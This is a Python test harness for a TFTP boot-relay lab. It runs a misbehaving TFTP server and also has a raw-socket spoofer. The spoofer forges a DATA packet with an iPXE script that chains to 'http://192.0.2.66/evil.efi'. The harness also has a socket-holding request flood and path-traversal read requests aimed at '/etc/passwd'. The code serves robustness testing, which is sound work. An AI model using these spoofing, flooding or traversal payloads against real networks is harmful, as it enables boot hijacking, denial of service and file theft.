#!/usr/bin/env python3
"""tftp_hostile.py - the attacker and the misbehaving boot server of
tests/lab/test_tftp_hostile.sh.  Python 3 standard library only; run each
sub-command inside a namespace (`ip netns exec NS`).

  server ADDR        A boot server that breaks the rules, on ADDR:69; what
                     it does depends on the file name asked for:
                       endless*  OACK grants blksize and windowsize as asked,
                                 no tsize; then full blocks without end
                       liar*     OACK says tsize 100, then sends 200000 bytes
                       bigblk*   OACK grants blksize 65464 whatever was asked
                       drip*     OACK (tsize 10000000), then one full block
                                 every --drip seconds, whatever is ACKed
                     Prints one line per request and how it ended.

  spray              Forge DATA block 1 (a short block: it would end the
                     file) from --src (the boot server's address) at every
                     port in --ports of each --dst address, from a raw
                     socket, for --seconds; prints the packets sent.

  flood              From each address in --addrs, --per read requests for
                     --file with "timeout 255" to --dst:69, each from its
                     own socket; never reads or answers anything; holds the
                     sockets for --hold seconds.  Prints the count.

  badreq             Send --dst:69 each malformed or refused read request
                     from --src and wait up to 2 s for the answer; prints
                     "CASE answered error=N msg=..." or "CASE no-answer".
                     Exit status 1 when any went unanswered.
"""
import argparse
import random
import select
import socket
import struct
import sys
import time

RRQ, DATA, ACK, ERROR, OACK = 1, 3, 4, 5, 6


def parse_rrq(pkt):
    parts = pkt[2:].split(b"\0")
    name = parts[0].decode("latin-1")
    opts = {}
    for i in range(2, len(parts) - 1, 2):
        opts[parts[i].decode("latin-1").lower()] = parts[i + 1].decode("latin-1")
    return name, opts


def oack(opts):
    body = b"".join(k.encode() + b"\0" + str(v).encode() + b"\0" for k, v in opts.items())
    return struct.pack("!H", OACK) + body


def data(block, payload):
    return struct.pack("!HH", DATA, block & 0xFFFF) + payload


def recv_ack(sock, timeout):
    r, _, _ = select.select([sock], [], [], timeout)
    if not r:
        return None
    pkt, _ = sock.recvfrom(65536)
    op = struct.unpack("!H", pkt[:2])[0]
    if op == ACK:
        return ("ack", struct.unpack("!H", pkt[2:4])[0])
    if op == ERROR:
        return ("error", struct.unpack("!H", pkt[2:4])[0], pkt[4:].rstrip(b"\0").decode("latin-1"))
    return ("other", op)


def serve_one(peer, name, opts, args):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((args.addr, 0))
    asked_blk = int(opts.get("blksize", "512"))
    asked_win = int(opts.get("windowsize", "1"))
    sent = 0
    end = "?"
    try:
        if name.startswith("endless"):
            blk, win = asked_blk, asked_win
            s.sendto(oack({"blksize": blk, "windowsize": win}), peer)
            a = recv_ack(s, 3)
            block = 1
            payload = b"E" * blk
            while a and a[0] == "ack":
                last = block + win - 1
                for b in range(block, last + 1):
                    s.sendto(data(b, payload), peer)
                    sent += blk
                a = recv_ack(s, 3)
                if a and a[0] == "ack":
                    # RFC 7440: go on after the block acknowledged
                    block = last - ((last - a[1]) & 0xFFFF) + 1
            end = "relay said %s" % (a,)
        elif name.startswith("liar"):
            blk = min(asked_blk, 1428)
            s.sendto(oack({"blksize": blk, "tsize": 100}), peer)
            a = recv_ack(s, 3)
            block = 1
            while a and a[0] == "ack" and sent < 200000:
                s.sendto(data(block, b"L" * blk), peer)
                sent += blk
                block += 1
                a = recv_ack(s, 3)
            end = "relay said %s" % (a,)
        elif name.startswith("bigblk"):
            s.sendto(oack({"blksize": 65464}), peer)
            a = recv_ack(s, 3)
            end = "relay said %s" % (a,)
        elif name.startswith("drip"):
            blk = asked_blk
            s.sendto(oack({"blksize": blk, "tsize": 10000000}), peer)
            a = recv_ack(s, 3)
            block = 1
            t_end = time.time() + 60
            while a is not None and a[0] == "ack" and time.time() < t_end:
                time.sleep(args.drip)
                s.sendto(data(block, b"D" * blk), peer)
                sent += blk
                block += 1
                # drain whatever came meanwhile; stop on an ERROR
                a = ("ack", 0)
                while True:
                    r, _, _ = select.select([s], [], [], 0)
                    if not r:
                        break
                    x = recv_ack(s, 0)
                    if x and x[0] == "error":
                        a = x
                        break
            end = "relay said %s" % (a,)
        else:
            s.sendto(struct.pack("!HH", ERROR, 1) + b"File not found\0", peer)
            end = "not found"
    finally:
        s.close()
    print("served %s to %s:%d bytes=%d end=%s" % (name, peer[0], peer[1], sent, end), flush=True)


def cmd_server(args):
    ls = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ls.bind((args.addr, 69))
    print("hostile server on %s:69" % args.addr, flush=True)
    import threading
    while True:
        pkt, peer = ls.recvfrom(65536)
        if len(pkt) < 4 or struct.unpack("!H", pkt[:2])[0] != RRQ:
            continue
        name, opts = parse_rrq(pkt)
        print("request %s from %s:%d opts=%s" % (name, peer[0], peer[1], opts), flush=True)
        threading.Thread(target=serve_one, args=(peer, name, opts, args), daemon=True).start()


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def forged(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randint(0, 65535), 0, 64, 17,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def cmd_spray(args):
    lo, hi = (int(x) for x in args.ports.split("-"))
    payload = data(1, b"#!ipxe\nchain http://192.0.2.66/evil.efi\n")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pkts = [(forged(args.src, d, args.sport, p, payload), d)
            for d in args.dst.split(",") for p in range(lo, hi + 1)]
    n = 0
    t_end = time.time() + args.seconds
    while time.time() < t_end:
        for pkt, d in pkts:
            try:
                s.sendto(pkt, (d, 0))
                n += 1
            except OSError:
                pass
    print("spray sent=%d" % n, flush=True)


def rrq(name, mode=b"octet", opts=()):
    body = name + b"\0" + mode + b"\0"
    for k, v in opts:
        body += k + b"\0" + v + b"\0"
    return struct.pack("!H", RRQ) + body


def cmd_flood(args):
    socks = []
    pkt = rrq(args.file.encode(), opts=((b"timeout", b"255"), (b"tsize", b"0")))
    for a in args.addrs.split(","):
        for _ in range(args.per):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((a, 0))
            s.sendto(pkt, (args.dst, 69))
            socks.append(s)
    print("flood sent=%d" % len(socks), flush=True)
    time.sleep(args.hold)
    for s in socks:
        s.close()


BAD = [
    ("name-256-bytes", rrq(b"a" * 256)),
    ("name-empty", rrq(b"")),
    ("mode-16-chars", rrq(b"boot.bin", mode=b"octetoctetoctet!")),
    ("no-nul", struct.pack("!H", RRQ) + b"boot.bin"),
    ("mode-no-nul", struct.pack("!H", RRQ) + b"boot.bin\0octet"),
    ("path-three-dots", rrq(b".../etc/passwd")),
    ("path-dots-space", rrq(b".. /etc/passwd")),
    ("path-dots-semicolon", rrq(b"..;/etc/passwd")),
    ("path-ntfs-stream", rrq(b"..::$DATA/etc/passwd")),
    ("path-trailing-dot", rrq(b"boot.bin.")),
]


def cmd_badreq(args):
    missing = 0
    for case, pkt in BAD:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((args.src, 0))
        s.sendto(pkt, (args.dst, 69))
        r, _, _ = select.select([s], [], [], 2)
        if r:
            ans, _ = s.recvfrom(65536)
            op = struct.unpack("!H", ans[:2])[0]
            if op == ERROR:
                print("%s answered error=%d msg=%s" % (case, struct.unpack("!H", ans[2:4])[0],
                                                       ans[4:].rstrip(b"\0").decode("latin-1")))
            else:
                print("%s answered op=%d" % (case, op))
                missing += 1
        else:
            print("%s no-answer" % case)
            missing += 1
        s.close()
    return 1 if missing else 0


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("server")
    p.add_argument("addr")
    p.add_argument("--drip", type=float, default=0.9)
    p = sub.add_parser("spray")
    p.add_argument("--src", required=True)
    p.add_argument("--sport", type=int, default=50000)
    p.add_argument("--dst", required=True)
    p.add_argument("--ports", required=True)
    p.add_argument("--seconds", type=float, default=1.0)
    p = sub.add_parser("flood")
    p.add_argument("--addrs", required=True)
    p.add_argument("--per", type=int, default=8)
    p.add_argument("--file", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--hold", type=float, default=30)
    p = sub.add_parser("badreq")
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    args = ap.parse_args()
    return {"server": cmd_server, "spray": cmd_spray, "flood": cmd_flood,
            "badreq": cmd_badreq}[args.cmd](args) or 0


if __name__ == "__main__":
    sys.exit(main())
